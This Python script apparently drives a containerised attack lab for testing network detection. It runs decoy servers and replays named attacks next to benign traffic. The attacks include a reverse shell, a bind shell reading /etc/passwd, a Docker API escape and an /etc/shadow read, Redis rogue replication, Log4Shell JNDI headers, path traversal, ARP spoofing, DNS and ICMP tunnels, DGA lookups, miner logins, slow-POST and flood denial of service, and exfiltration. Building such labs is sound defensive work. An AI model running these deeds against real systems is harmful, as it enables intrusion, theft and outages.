#!/usr/bin/env python3
"""What the containers of the attack lab do: a server by its role, or one deed (attack_lab.py calls them by name).

usage: attack_actor.py serve ROLE | attack_actor.py do DEED [ARGUMENT...]
"""
import base64
import http.server
import json
import os
import random
import socket
import socketserver
import struct
import subprocess
import sys
import threading
import time

# --- servers ---


class Quiet(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def answer(self, body, status=200):
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class Web(Quiet):
    def do_GET(self):
        if self.headers.get("Upgrade"):
            return websocket(self)
        known = self.path.split("?")[0] in ("/", "/health", "/metrics") or self.path.startswith("/items/")
        self.answer(b'{"ok":true}' * 20 if known else b"{}", 200 if known else 404)

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.answer(b'{"stored":true}')


class Kubelet(Quiet):
    def do_GET(self):
        self.answer(json.dumps({"kind": "PodList", "items": [{"metadata": {"name": "web"}}]}).encode())

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.answer(b"uid=0(root) gid=0(root)\n")


class Etcd(Quiet):
    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.answer(json.dumps({"kvs": [{"key": "L3JlZ2lzdHJ5", "value": "c2VjcmV0"}] * 40}).encode())


def websocket(handler):
    handler.send_response(101)
    for name, value in (("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Accept", "s3pPLMBiTxaQ9kYGzzhZRbK+xOo=")):
        handler.send_header(name, value)
    handler.end_headers()
    handler.close_connection = True
    handler.connection.settimeout(20)
    try:
        while data := handler.connection.recv(65536):
            handler.connection.sendall(bytes([0x82, min(len(data), 120)]) + os.urandom(min(len(data), 120)))
    except OSError:
        pass


class Threaded(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 512


def serve_http(port, handler):
    Threaded(("", port), handler).serve_forever()


def serve_lines(port, answers):
    """A server that talks: `answers` makes its reply to each line, or speaks first (None)."""
    class Handler(socketserver.StreamRequestHandler):
        def handle(self):
            answers(self)

    server = socketserver.ThreadingTCPServer(("", port), Handler)
    server.daemon_threads = True
    server.serve_forever()


def stratum(handler):
    while line := handler.rfile.readline():
        call = json.loads(line)
        handler.wfile.write(json.dumps({"id": call["id"], "jsonrpc": "2.0", "error": None, "result": {"id": "1", "status": "OK"}}).encode() + b"\n")
        job = {"jsonrpc": "2.0", "method": "job", "params": {"blob": os.urandom(38).hex(), "job_id": "7", "target": "b88d0600"}}
        handler.wfile.write(json.dumps(job).encode() + b"\n")


def commander(handler):
    for command in ("id", "uname -a", "ls -l /", "cat /etc/passwd", "env", "ps", "exit"):
        time.sleep(0.5)
        handler.wfile.write(command.encode() + b"\n")
    time.sleep(0.5)


def shell(handler):
    subprocess.run(["/bin/sh", "-i"], stdin=handler.connection.fileno(), stdout=handler.connection.fileno(),
                   stderr=handler.connection.fileno(), check=False)


def name_of(query):
    at, labels = 12, []
    while query[at]:
        labels.append(query[at + 1:at + 1 + query[at]].decode("latin-1"))
        at += query[at] + 1
    return ".".join(labels), struct.unpack_from(">H", query, at + 1)[0], at + 5


def serve_dns():
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("", 53))
    while True:
        query, client = server.recvfrom(4096)
        try:
            name, kind, end = name_of(query)
        except (IndexError, struct.error):
            continue
        known = name.endswith(".shop.example") or name.endswith(".tun.example")
        record = b"\xc0\x0c" + struct.pack(">HHIH", kind, 1, 5, 4) + bytes([10, 88, 9, 9]) if kind == 1 else \
            b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 5, 101) + b"\x64" + base64.b64encode(os.urandom(75))
        head = query[:2] + (b"\x81\x80" if known else b"\x81\x83") + struct.pack(">HHHH", 1, 1 if known else 0, 0, 0)
        server.sendto(head + query[12:end] + (record if known else b""), client)


def serve(role):
    if role == "web":
        threading.Thread(target=serve_http, args=(8080, Web), daemon=True).start()
    if role == "node":
        threading.Thread(target=serve_http, args=(10255, Kubelet), daemon=True).start()
        threading.Thread(target=serve_http, args=(2379, Etcd), daemon=True).start()
    if role == "dns":
        threading.Thread(target=serve_dns, daemon=True).start()
    if role == "db":
        if os.fork() == 0:  # threads end with what follows
            serve_lines(5555, shell)
        os.execvp("redis-server", ["redis-server", "--port", "6379", "--bind", "0.0.0.0", "--protected-mode", "no", "--save", "",
                                   "--requirepass", "right"])
    if role == "outside":
        for port, handler in ((3333, stratum), (4444, commander)):
            threading.Thread(target=serve_lines, args=(port, handler), daemon=True).start()
        for port in (80, 8080, 8443):
            threading.Thread(target=serve_http, args=(port, Web), daemon=True).start()
    while True:
        time.sleep(3600)


# --- deeds ---


def connect(host, port, timeout=3):
    return socket.create_connection((host, port), timeout)


def request(host, port, head, body=b"", read=True):
    with connect(host, port) as s:
        s.sendall(head.encode() + (f"Content-Length: {len(body)}\r\n" if body else "").encode() + b"\r\n" + body)
        if read:
            try:
                s.recv(65536)
            except OSError:
                pass


def get(host, port, path, more=""):
    request(host, port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{more}")


def post(host, port, path, body, more=""):
    request(host, port, f"POST {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Type: application/json\r\n{more}", body)


def ask(server, name, kind=1):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    query = struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(query, (server, 53))
        try:
            s.recv(4096)
        except OSError:
            pass


def redis(host, *commands):
    with connect(host, 6379) as s:
        for command in commands:
            words = command.split(" ")
            s.sendall(b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w.encode()) for w in words))
            s.recv(65536)


def upgraded(host, port, path, protocol, frames, size):
    with connect(host, port) as s:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  f"Sec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\nSec-WebSocket-Version: 13\r\n"
                  f"Sec-WebSocket-Protocol: {protocol}\r\n\r\n".encode())
        s.recv(4096)
        for _ in range(frames):
            s.sendall(bytes([0x82, 0xfe]) + struct.pack(">H", size) + os.urandom(4 + size))
            s.recv(65536)
            time.sleep(0.1)


def arp(interface, operation, sender, target, number=1):
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    link.bind((interface, 0))
    mac = link.getsockname()[4]
    for i in range(number):
        other = target if number == 1 else target.rsplit(".", 1)[0] + f".{i + 1}"
        link.send(b"\xff" * 6 + mac + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation) + mac +
                  socket.inet_aton(sender) + b"\0" * 6 + socket.inet_aton(other))
        time.sleep(0.02)


def echo(host, payload, number):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
    for sequence in range(number):
        body = os.urandom(payload) if payload > 56 else bytes(range(payload))
        packet = struct.pack(">BBHHH", 8, 0, 0, os.getpid() & 0xffff, sequence) + body
        total = sum(struct.unpack(f">{len(packet) // 2}H", packet[:len(packet) // 2 * 2]))
        while total >> 16:
            total = (total & 0xffff) + (total >> 16)
        raw.sendto(packet[:2] + struct.pack(">H", ~total & 0xffff) + packet[4:], (host, 0))
        time.sleep(0.05)


def quietly(call, *arguments):
    try:
        call(*arguments)
    except OSError:
        pass


def do(deed, a):
    if deed == "usual-job":  # host of web, db, dns, outside
        web, db, dns, outside = a
        while True:
            quietly(ask, dns, random.choice(("web.shop.example", "db.shop.example", "api.shop.example")))
            quietly(get, web, 8080, f"/items/{random.randint(1, 99)}")
            quietly(redis, db, "AUTH right", "GET item", "SET item 1")
            if random.random() < 0.1:
                quietly(post, outside, 80, "/report", os.urandom(random.choice((2000, 40000, 400000))))
            if random.random() < 0.03:
                quietly(ask, dns, random.choice(("wep.shop.exmaple", "databse.example", "frontendd.example")))
            time.sleep(random.uniform(0.1, 0.5))
    elif deed == "usual-web":
        db, dns = a
        while True:
            quietly(ask, dns, "db.shop.example")
            quietly(redis, db, "AUTH right", "GET item")
            time.sleep(random.uniform(0.1, 0.4))
    elif deed == "usual-monitor":  # even like a beacon, and with the Docker API: benign twins
        web, engine, outside = a[0].split(","), a[1], a[2]
        while True:
            for host in web:
                quietly(get, host, 8080, "/health")
            quietly(get, engine, 2375, "/containers/json")
            quietly(echo, web[0], 56, 2)
            quietly(upgraded, web[0], 8080, "/chat", "chat", 2, 60)
            time.sleep(2)
    elif deed == "docker-create":
        post(a[0], 2375, "/containers/create?name=lab-escape", b'{"Image":"lab","Cmd":["true"],"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}')
        request(a[0], 2375, f"DELETE /containers/lab-escape HTTP/1.1\r\nHost: {a[0]}\r\nConnection: close\r\n")
    elif deed == "docker-exec":
        post(a[0], 2375, "/containers/db/exec", b'{"Cmd":["cat","/etc/shadow"],"AttachStdout":true}')
    elif deed == "kubelet":
        get(a[0], 10255, "/pods")
        post(a[0], 10255, "/run/kube-system/proxy/main", b"cmd=id")
    elif deed == "etcd":
        post(a[0], 2379, "/v3/kv/range", b'{"key":"Lw==","range_end":"MA==","limit":"500"}')
    elif deed == "etcd-put":
        for _ in range(4):
            post(a[0], 2379, "/v3/kv/put", b'{"key":"L3JlZ2lzdHJ5L3BvZHM=","value":"eA=="}')
    elif deed == "miner":
        with connect(a[0], 3333) as s:
            for number, method in enumerate(("login", "submit", "submit", "keepalived")):
                params = {"login": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
                          "pass": "x", "agent": "XMRig/6.21.0", "job_id": "7", "nonce": os.urandom(4).hex(), "result": os.urandom(32).hex()}
                s.sendall(json.dumps({"id": number + 1, "jsonrpc": "2.0", "method": method, "params": params}).encode() + b"\n")
                s.recv(65536)
                time.sleep(1)
    elif deed == "tunnel":
        upgraded(a[0], 8443, "/", "chisel-v3", 30, 900)
    elif deed == "dns-tunnel":
        for _ in range(60):
            data = base64.b32encode(os.urandom(60)).decode().strip("=").lower()
            ask(a[0], f"{data[:48]}.{data[48:]}.tun.example", 16)
            time.sleep(0.05)
    elif deed == "dga":
        for _ in range(24):
            ask(a[0], "".join(random.choice("bcdfghjklmnpqrstvwxz0123456789qxzk") for _ in range(14)) + random.choice((".com", ".net", ".info")))
            time.sleep(0.2)
    elif deed == "arp-spoof":
        for _ in range(int(a[2])):
            for victim in a[:2]:
                arp("eth0", 2, victim, "10.88.0.255")
            time.sleep(0.5)
    elif deed == "arp-sweep":
        arp("eth0", 1, a[0], a[0], 60)
    elif deed == "beacon":
        for _ in range(12):
            quietly(get, a[0], 8080, "/c?" + os.urandom(4).hex())
            time.sleep(2 + random.uniform(-0.1, 0.1))
    elif deed == "reverse-shell":
        with connect(a[0], 4444, None) as s:
            subprocess.run(["/bin/sh"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno(), check=False, timeout=20)
    elif deed == "bind-shell":
        with connect(a[0], 5555) as s:
            for command in ("id", "ls -l /bin/..", "cat /etc/passwd", "env", "exit"):
                s.sendall(command.encode() + b"\n")
                time.sleep(0.6)
                s.recv(65536)
    elif deed == "redis-module":
        redis(a[0], "AUTH right", "CONFIG SET dir /tmp", "CONFIG SET dbfilename x.so", "REPLICAOF 10.88.9.9 6379", "REPLICAOF NO ONE")
    elif deed == "redis-brute":
        for number in range(40):
            quietly(redis, a[0], f"AUTH wrong{number}")
    elif deed == "slow-scan":
        for number, port in enumerate((21, 22, 23, 25, 110, 111, 139, 143, 445, 993, 1433, 1521, 2049, 3306, 3389, 5900)):
            quietly(connect, a[number % len(a)], port, 0.5)
            time.sleep(1.5)
    elif deed == "exfil":
        post(a[0], 80, "/upload", os.urandom(24 << 20))
    elif deed == "icmp-tunnel":
        echo(a[0], 900, 120)
    elif deed == "slow-post":
        held = []
        for _ in range(30):
            s = connect(a[0], 8080)
            s.sendall(b"POST /items/1 HTTP/1.1\r\nHost: web\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\n\r\nx")
            held.append(s)
        for _ in range(6):
            time.sleep(1)
            for s in held:
                quietly(s.sendall, b"x")
    elif deed == "flood":
        for _ in range(600):
            quietly(get, a[0], 8080, "/items/1")
    elif deed == "traversal":
        for path in ("/..%2f..%2fetc/passwd", "/cgi-bin/.%2e/.%2e/bin/sh", "/.git/config", "/wp-login.php", "/actuator/env", "/.env"):
            get(a[0], 8080, path)
    elif deed == "log4shell":
        get(a[0], 8080, "/items/1", "X-Api-Version: ${jndi:ldap://10.88.9.9:1389/a}\r\n")
        get(a[0], 8080, "/items/1", "User-Agent: ${${lower:j}ndi:ldap://10.88.9.9/b}\r\n")
    else:
        sys.exit(f"no such deed: {deed}")


if __name__ == "__main__":
    if sys.argv[1] == "serve":
        serve(sys.argv[2])
    else:
        do(sys.argv[2], sys.argv[3:])
